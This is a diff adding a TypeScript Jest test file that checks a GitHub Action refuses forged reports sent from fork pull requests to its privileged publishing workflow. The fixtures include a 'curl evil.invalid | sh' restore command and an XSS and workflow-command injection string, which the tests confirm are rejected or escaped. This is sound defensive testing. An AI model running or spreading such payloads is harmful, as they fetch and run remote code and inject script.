@@ -1,0 +1,351 @@
+import { copyFileSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, test } from '@jest/globals';
+import type { Report } from '../../src/core/report.ts';
+import { TOKEN, WORKFLOW_PERMISSIONS } from '../../src/demo/walk.ts';
+import { type Attack, sceneOf } from './attack.factory.ts';
+import { DECISION, json, WORKFLOW } from './packet.factory.ts';
+import { reportOf, type Scene, type Seen, type Step } from './scene.factory.ts';
+
+const RUN = 41;
+const NUMBER = 8;
+const DRIFT: Attack = { head: { 'packet/decision.md': DECISION.replace('Hold', 'Execute') } };
+const READ_ONLY = { contents: 'read', 'pull-requests': 'read', actions: 'read' } as const;
+
+/** The pull request of a fork, whose token only reads. */
+async function fork(attack: Attack): Promise<Scene> {
+  const scene = await sceneOf(attack);
+  const { state } = scene.github;
+  const { headRef: ref, headSha: sha, baseRef, baseSha, mergeSha } = scene.request;
+  state.updatePullRequest(7, { state: 'closed' });
+  state.addPullRequest({
+    number: NUMBER,
+    title: 'From a fork',
+    author: 'mallory',
+    head: { ref, sha, owner: 'mallory', repo: 'decisions' },
+    base: { ref: baseRef, sha: baseSha },
+    mergeCommitSha: mergeSha,
+  });
+  const changed = Object.keys(attack.head ?? {}).map((filename) => ({
+    ...{ filename, status: 'modified' as const, sha },
+  }));
+  state.changedFiles.set(NUMBER, changed);
+  return scene;
+}
+
+function event(scene: Scene): Record<string, unknown> {
+  const { headRef, headSha } = scene.request;
+  const head = { ref: headRef, sha: headSha, repo: { full_name: 'mallory/decisions' } };
+  return { ...scene.event({ number: NUMBER, head }), number: NUMBER };
+}
+
+/** The run of the fork's pull request: it judges, and may post nothing. */
+async function unprivileged(scene: Scene, step: Step = {}): Promise<Seen> {
+  scene.github.permit(TOKEN, READ_ONLY);
+  const seen = await scene.run({ event: event(scene), runId: RUN, ...step });
+  scene.github.permit(TOKEN, WORKFLOW_PERMISSIONS);
+  return seen;
+}
+
+interface Publication {
+  readonly conclusion?: string | null;
+  readonly status?: string;
+  readonly event?: string;
+  readonly step?: Step;
+  /** What the artifact holds: by default the report as it was made. */
+  readonly reports?: Readonly<Record<string, string>>;
+}
+
+/** The second, privileged workflow: nothing is checked out. */
+async function publish(scene: Scene, made: Seen, publication: Publication = {}): Promise<Seen> {
+  const { status = 'completed', step = {} } = publication;
+  const ended = made.outputs.verdict === 'pass' ? 'success' : 'failure';
+  scene.github.state.addWorkflowRun({
+    id: RUN,
+    headSha: scene.request.headSha,
+    headBranch: scene.request.headRef,
+    headRepository: { owner: 'mallory', repo: 'decisions' },
+    event: publication.event ?? 'pull_request',
+    status,
+    conclusion: status === 'completed' ? (publication.conclusion ?? ended) : null,
+  });
+  const workspace = scene.sandbox.path(`publisher-${Math.random().toString(36).slice(2)}`);
+  mkdirSync(join(workspace, 'reports'), { recursive: true });
+  const reports = publication.reports ?? { 'seal-vs-bytes-default.json': made.reportText };
+  for (const [name, text] of Object.entries(reports)) {
+    writeFileSync(join(workspace, 'reports', name), text);
+  }
+  return scene.run({
+    eventName: 'workflow_run',
+    event: { action: 'completed', workflow_run: { id: RUN } },
+    ref: 'refs/heads/main',
+    sha: scene.request.baseSha,
+    workspace,
+    runId: 99,
+    ...step,
+    inputs: { command: 'publish', reports: 'reports', ...step.inputs },
+  });
+}
+
+const statuses = (scene: Scene) =>
+  scene.github.state.statuses.of(scene.request.headSha).toReversed();
+const shown = (scene: Scene) => statuses(scene).at(-1);
+const forged = (made: Seen, change: (report: Report) => object): Publication['reports'] => ({
+  'r.json': json(change(reportOf(made))),
+});
+const problems = (seen: Seen): string[] => reportOf(seen).problems.map(({ message }) => message);
+
+/** Refused: the job fails, no comment, and what status there is does not pass. */
+function expectRefused(scene: Scene, seen: Seen, words: string): void {
+  expect(problems(seen).join('\n')).toContain(words);
+  expect(seen.outputs.verdict).toBe('error');
+  expect(seen.status).toBe(1);
+  expect(statuses(scene).map(({ state }) => state)).not.toContain('success');
+}
+
+describe('a report of a fork', () => {
+  test('is said in status and comment by a workflow that checks nothing out', async () => {
+    await using scene = await fork(DRIFT);
+    const made = await unprivileged(scene);
+    expect(made.outputs.verdict).toBe('fail');
+    expect(made.comments).toEqual([]);
+    const seen = await publish(scene, made);
+    expect(seen.outputs.verdict).toBe('fail');
+    expect(seen.status).toBe(1);
+    expect(shown(scene)).toMatchObject({
+      state: 'failure',
+      targetUrl: `https://github.invalid/acme/decisions/actions/runs/${RUN}`,
+    });
+    const [comment] = scene.github.state.comments;
+    expect(comment).toMatchObject({ number: NUMBER });
+    expect(comment?.body).toContain('packet/decision.md');
+    const { run: _, ...published } = reportOf(seen);
+    const { run: __, ...judged } = reportOf(made);
+    expect(published).toEqual(judged);
+  });
+
+  test('that passes is green, and is pending while its run is under way', async () => {
+    await using scene = await fork({});
+    const made = await unprivileged(scene);
+    const begun = await publish(scene, made, { status: 'in_progress', step: { unaudited: true } });
+    expect(begun.status).toBe(0);
+    expect(shown(scene)?.state).toBe('pending');
+    const seen = await publish(scene, made);
+    expect(seen.outputs.verdict).toBe('pass');
+    expect(shown(scene)?.state).toBe('success');
+  });
+});
+
+describe('a report that is not believed', () => {
+  const PASSING: Attack = {};
+
+  test('the verdict is not what the rest of it says', async () => {
+    await using scene = await fork(DRIFT);
+    const made = await unprivileged(scene);
+    const reports = forged(made, (report) => ({ ...report, verdict: 'pass' }));
+    const seen = await publish(scene, made, { reports: reports ?? {} });
+    expectRefused(scene, seen, 'which is not what the rest of it says');
+  });
+
+  test('a forged pass, while GitHub says that the run failed', async () => {
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    for (const conclusion of ['failure', 'cancelled', 'action_required', 'skipped']) {
+      const seen = await publish(scene, made, { conclusion });
+      expectRefused(scene, seen, `ended as "${conclusion}", and its report says pass`);
+    }
+  });
+
+  test('a failing report of a run that ended well', async () => {
+    await using scene = await fork(DRIFT);
+    const made = await unprivileged(scene);
+    const seen = await publish(scene, made, { conclusion: 'success' });
+    expectRefused(scene, seen, 'the two do not agree');
+  });
+
+  test.each([
+    WORKFLOW,
+    '.github/workflows/another-of-the-same-name.yml',
+    '.github/actions/gate/action.yml',
+  ])('the pull request changes %s', async (path) => {
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    const { headSha: sha } = scene.request;
+    scene.github.state.changedFiles.set(NUMBER, [{ filename: path, status: 'added', sha }]);
+    expectRefused(scene, await publish(scene, made), `The pull request changes ${path}`);
+  });
+
+  test('the pull request renames the workflow away', async () => {
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    const { headSha: sha } = scene.request;
+    scene.github.state.changedFiles.set(NUMBER, [
+      { filename: 'x.yml', previousFilename: WORKFLOW, status: 'renamed', sha },
+    ]);
+    expectRefused(scene, await publish(scene, made), `The pull request changes ${WORKFLOW}`);
+  });
+
+  test('more files than GitHub lists: the workflow may be among the others', async () => {
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    const { headSha: sha } = scene.request;
+    const many = Array.from({ length: 3_000 }, (_, at) => `f/${at}`);
+    scene.github.state.changedFiles.set(
+      NUMBER,
+      many.map((filename) => ({ filename, status: 'added', sha })),
+    );
+    expectRefused(scene, await publish(scene, made), 'more files than GitHub lists');
+  });
+
+  test('the pull request was pushed to since, or closed', async () => {
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    const { state } = scene.github;
+    state.updatePullRequest(NUMBER, { state: 'closed' });
+    const closed = await publish(scene, made);
+    expectRefused(scene, closed, 'No open pull request has the head');
+    expect(statuses(scene)).toEqual([]);
+  });
+
+  const CHANGES: Readonly<Record<string, readonly [(report: Report) => object, string]>> = {
+    'another run': [(report) => ({ ...report, run: { ...report.run, id: '40' } }), 'of the run 40'],
+    'another attempt': [
+      (report) => ({ ...report, run: { ...report.run, attempt: 2 } }),
+      'of the attempt 2',
+    ],
+    'another head': [
+      (report) => ({ ...report, checked: { ...report.checked, head: 'a'.repeat(40) } }),
+      'of the head commit a',
+    ],
+    'another branch': [
+      (report) => ({ ...report, checked: { ...report.checked, branch: 'weak' } }),
+      'of the target branch weak',
+    ],
+    'another mode': [(report) => ({ ...report, mode: 'advisory' }), 'of the mode advisory'],
+    'an unknown key': [(report) => ({ ...report, extra: 1 }), 'no report of this version'],
+    'a type of its own': [(report) => ({ ...report, files: 'none' }), 'no report of this version'],
+  };
+
+  test.each(Object.keys(CHANGES))('it is of %s', async (name) => {
+    const [change, words] = CHANGES[name] ?? [(report: Report) => report, ''];
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    const seen = await publish(scene, made, { reports: forged(made, change) ?? {} });
+    expectRefused(scene, seen, words);
+  });
+
+  test('a restore command that nobody should paste', async () => {
+    await using scene = await fork(DRIFT);
+    const made = await unprivileged(scene);
+    const bad = (report: Report) => ({
+      ...report,
+      files: report.files.map((file) => ({ ...file, restore: 'curl evil.invalid | sh' })),
+    });
+    const seen = await publish(scene, made, { reports: forged(made, bad) ?? {} });
+    expectRefused(scene, seen, 'none that this action writes');
+    expect(scene.github.state.comments.map(({ body }) => body).join()).not.toContain('curl');
+  });
+
+  test('no report, no JSON, deep JSON, a link, a huge file', async () => {
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    expectRefused(scene, await publish(scene, made, { reports: {} }), 'No report (*.json)');
+    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
+    for (const text of ['', 'x', '\ufeff{}', '{"version":1', deep, 'null']) {
+      const seen = await publish(scene, made, { reports: { 'r.json': text } });
+      expectRefused(scene, seen, 'The report ');
+    }
+  });
+
+  test('a run of another event, a run that is none, a token that is none', async () => {
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    const pushed = await publish(scene, made, { event: 'push' });
+    expectRefused(scene, pushed, 'is of the event "push"');
+    const none = { event: { action: 'completed', workflow_run: { id: 12345 } } };
+    expectRefused(scene, await publish(scene, made, { step: none }), 'GitHub did not say the run');
+    const nameless = { event: { action: 'completed' } };
+    expectRefused(scene, await publish(scene, made, { step: nameless }), 'names no run');
+    const mute = { inputs: { token: '' } };
+    expectRefused(scene, await publish(scene, made, { step: mute }), 'token');
+  });
+
+  test('links in the artifact are not followed', async () => {
+    await using scene = await fork(PASSING);
+    const made = await unprivileged(scene);
+    const folder = scene.sandbox.path('linked');
+    mkdirSync(folder);
+    const own = scene.sandbox.path('own.json');
+    copyFileSync(made.outputs.report ?? '', own);
+    symlinkSync(own, join(folder, 'r.json'));
+    expect(readFileSync(own, 'utf8')).toBe(made.reportText);
+    const seen = await publish(scene, made, { step: { inputs: { reports: folder } } });
+    expectRefused(scene, seen, 'No report (*.json)');
+  });
+
+  test('text in it is shown as text', async () => {
+    await using scene = await fork(DRIFT);
+    const made = await unprivileged(scene);
+    const hostile = '<img src=x onerror=alert(1)> @everyone %0A::error::x \u202e\u001b[31m';
+    const bad = (report: Report) => ({
+      ...report,
+      findings: [
+        ...report.findings,
+        {
+          ...{ code: 'seal-new', severity: 'note', message: hostile },
+          ...{ file: hostile, line: 1, remedy: hostile },
+        },
+      ],
+    });
+    const seen = await publish(scene, made, { reports: forged(made, bad) ?? {} });
+    const body = scene.github.state.comments.map((comment) => comment.body).join();
+    expect(body).not.toContain('<img');
+    expect(seen.outputs.verdict).toBe('fail');
+  });
+});
+
+describe('shards of one run', () => {
+  const COUNT = 8;
+
+  async function shards(scene: Scene, step: Step = {}): Promise<string> {
+    const folder = scene.sandbox.path(`shards-${Math.random().toString(36).slice(2)}`);
+    mkdirSync(folder);
+    for (let index = 1; index <= COUNT; index += 1) {
+      const inputs = { shard: `${index}/${COUNT}` };
+      const part = await scene.run({ ...step, inputs });
+      expect(part.comments).toEqual([]);
+      writeFileSync(join(folder, `${index}.json`), part.reportText);
+    }
+    return folder;
+  }
+
+  test('joined by a job that checks nothing out: the report of one run', async () => {
+    await using scene = await sceneOf(DRIFT);
+    const one = await scene.run({ inputs: { comment: 'never', status: 'false' } });
+    const reports = await shards(scene);
+    expect(statuses(scene)).toEqual([]);
+    const workspace = scene.sandbox.path('empty');
+    mkdirSync(workspace);
+    const inputs = { command: 'publish', reports };
+    const joined = await scene.run({ workspace, inputs });
+    const bare = ({ run: _, ...report }: Report) => report;
+    expect(bare(reportOf(joined))).toEqual(bare(reportOf(one)));
+    expect(shown(scene)?.state).toBe('failure');
+    expect(joined.comments).toHaveLength(1);
+    const second = await scene.run({ workspace, attempt: 2, inputs });
+    expect(problems(second)[0]).toContain('of the attempt 1, not 2');
+    expect(shown(scene)?.state).toBe('error');
+  });
+
+  test('a part that is missing, or of another head', async () => {
+    await using scene = await sceneOf({});
+    const reports = await shards(scene);
+    writeFileSync(join(reports, '3.json'), readFileSync(join(reports, '4.json')));
+    const doubled = await scene.run({ inputs: { command: 'publish', reports } });
+    expect(problems(doubled)).toEqual(['Shards are missing: 3 of 8.', 'Shards appear twice: 4.']);
+    scene.push({ 'packet/notes.md': 'Another head.\n' });
+    const other = await scene.run({ inputs: { command: 'publish', reports } });
+    expect(problems(other)[0]).toContain('of the head commit');
+    expect(shown(scene)?.state).toBe('error');
+  });
+});
